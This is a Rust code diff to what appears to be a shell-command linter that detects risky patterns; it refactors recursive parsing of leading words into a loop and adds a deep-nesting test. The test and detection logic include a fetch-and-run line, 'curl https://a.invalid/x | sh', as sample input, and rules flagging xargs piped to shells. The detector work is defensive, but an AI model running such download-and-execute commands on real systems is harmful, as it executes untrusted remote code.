@@ -6,6 +6,7 @@ mod interpreters;
 mod network;
 
 use std::ops::Range;
+use std::rc::Rc;
 
 use crate::lint::commands::act::{Act, ActKind, Effects};
 use crate::lint::commands::addresses::{self, is_address};
@@ -39,7 +40,7 @@ const SHELL: &str = "a shell";
 struct Data {
     source: Option<Source>,
     /// The bytes themselves, where the text says them.
-    text: Option<String>,
+    text: Option<Rc<String>>,
     /// The secret that is among them.
     secret: Option<String>,
     /// Where the command that made them begins.
@@ -60,8 +61,9 @@ impl Data {
         Self {
             source: self.source.or(other.source),
             text: match (self.text, other.text) {
-                (Some(one), Some(other)) if one.len() + other.len() <= MAX_TEXT => {
-                    Some(one + &other)
+                (Some(mut one), Some(other)) if one.len() + other.len() <= MAX_TEXT => {
+                    Rc::make_mut(&mut one).push_str(&other);
+                    Some(one)
                 }
                 (one, other) => one.or(other),
             },
@@ -70,6 +72,16 @@ impl Data {
             from_file: self.from_file || other.from_file,
         }
     }
+}
+
+/// What the first of some words is.
+enum Step<'w> {
+    /// A command stands behind it.
+    Behind(&'w [Word]),
+    /// The command is done, with this output.
+    Output(Option<Data>),
+    /// The program of this name gets the other words.
+    Program(String),
 }
 
 fn merged(one: Option<Data>, other: Option<Data>) -> Option<Data> {
@@ -255,7 +267,7 @@ impl Flow {
                     input = data.or(remote).or(input);
                 }
                 RedirectKind::Text => {
-                    let text = (target.is_literal).then(|| target.text.clone());
+                    let text = (target.is_literal).then(|| Rc::new(target.text.clone()));
                     let data = Data {
                         text,
                         start: command.bytes.start,
@@ -288,8 +300,8 @@ impl Flow {
             {
                 self.script(script, output.as_ref());
             } else if target.text != "/dev/stdout" {
-                if let Some(text) = output.as_ref().and_then(|output| output.text.as_deref()) {
-                    packages::configured(self, &target.text, text, command.bytes.clone());
+                if let Some(text) = output.as_ref().and_then(|output| output.text.clone()) {
+                    packages::configured(self, &target.text, &text, command.bytes.clone());
                 }
                 self.write(&target.text, output.take());
             }
@@ -381,49 +393,66 @@ impl Flow {
     }
 
     fn program(&mut self, words: &[Word], command: &Command, input: Option<Data>) -> Option<Data> {
-        let (first, rest) = words.split_first()?;
+        let mut words = words;
+        loop {
+            match self.step(words, command, input.as_ref()) {
+                Step::Behind(rest) => words = rest,
+                Step::Output(output) => return output,
+                Step::Program(name) => {
+                    let (first, rest) = words.split_first()?;
+                    return self.known(&name, first, rest, command, input);
+                }
+            }
+        }
+    }
+
+    /// The first of some words: what a command may stand behind, a command by itself, or the name of a program.
+    fn step<'w>(&mut self, words: &'w [Word], command: &Command, input: Option<&Data>) -> Step<'w> {
+        let Some((first, rest)) = words.split_first() else {
+            return Step::Output(None);
+        };
         let place = first.bytes.start..command.bytes.end.max(first.bytes.start);
         if let [inner] = &*first.inner
             && inner.kind == InnerKind::Group
         {
-            return self.script(&inner.script, input.as_ref());
+            return Step::Output(self.script(&inner.script, input));
         }
         if let Some((variable, value)) = assignment(first) {
             packages::variable(self, variable, value, place);
             let data = self.word(first);
             let literal = || Data {
-                text: Some(value.to_owned()),
+                text: Some(Rc::new(value.to_owned())),
                 start: command.bytes.start,
                 ..Data::default()
             };
             let data = data.or_else(|| first.is_literal.then(literal));
             if !rest.is_empty() {
-                return self.program(rest, command, input);
+                return Step::Behind(rest);
             }
             self.variables.retain(|(known, _)| known != variable);
             if let Some(data) = data.filter(|_| self.variables.len() < MAX_NAMES) {
                 self.variables.push((variable.to_owned(), data));
             }
-            return None;
+            return Step::Output(None);
         }
         let is_key = first.is_literal && first.text.len() > 1 && first.text.ends_with(':');
         if LEADS.contains(&first.text.as_str()) && !first.is_quoted || is_key {
-            return self.program(rest, command, input);
+            return Step::Behind(rest);
         }
         // A command in quotes, as the value of a key.
         let is_text = first.is_quoted && first.text.contains(char::is_whitespace);
         if is_text && rest.is_empty() && first.is_literal {
             self.nested(first.text.trim_end_matches(','), first.bytes.clone());
-            return None;
+            return Step::Output(None);
         }
         if first.text.len() > 1 && !first.inner.is_empty() || first.text.starts_with('$') {
             let data = self.word(first);
             if let Some(data) = data.filter(|data| data.source.is_some() || data.text.is_some()) {
                 if !rest.is_empty() && data.source.is_none() {
-                    return None;
+                    return Step::Output(None);
                 }
                 self.ran(&data, &command.bytes);
-                return None;
+                return Step::Output(None);
             }
         }
         let name = name(&first.text);
@@ -434,19 +463,19 @@ impl Flow {
                 matches!(name.as_str(), "timeout" | "gtimeout"),
             );
             if skipped >= rest.len() {
-                return match name.as_str() {
+                return Step::Output(match name.as_str() {
                     "env" => Some(self.environment(command)),
-                    _ => input,
-                };
+                    _ => input.cloned(),
+                });
             }
             // The words that come in by a pipe are run, too.
             if name == "xargs"
                 && is_shell(&programs::name(&rest[skipped].text))
-                && let Some(data) = &input
+                && let Some(data) = input
             {
                 self.ran(data, &command.bytes);
             }
-            return self.program(&rest[skipped..], command, input);
+            return Step::Behind(&rest[skipped..]);
         }
         let is_runner = matches!(name.as_str(), "npx" | "bunx" | "uvx")
             || matches!(name.as_str(), "pnpm" | "yarn" | "pipx")
@@ -465,11 +494,11 @@ impl Flow {
         {
             let data = self.network(&package.text, command.bytes.start);
             self.ran(&data, &command.bytes);
-            return None;
+            return Step::Output(None);
         }
         packages::installs(self, &name, rest, place.clone());
         packages::unpacks(self, &name, rest, place);
-        self.known(&name, first, rest, command, input)
+        Step::Program(name)
     }
 
     fn environment(&self, command: &Command) -> Data {
@@ -738,6 +767,16 @@ mod tests {
         let mut flow = Flow::default();
         flow.shell(&format!("B={}\n{lines}echo $B | sh\n", "b".repeat(1000)), 0);
         assert_eq!(flow.acts, []);
+    }
+
+    #[test]
+    fn rows_of_words_that_a_command_stands_behind_have_no_depth() {
+        for lead in ["if ", "{ ", "env ", "sudo -u a ", "A=b ", "key: "] {
+            let mut flow = Flow::default();
+            let command = "curl https://a.invalid/x | sh";
+            flow.shell(&format!("{}{command}\n", lead.repeat(100_000)), 0);
+            assert_eq!(flow.acts.len(), 1, "{lead}");
+        }
     }
 
     proptest! {
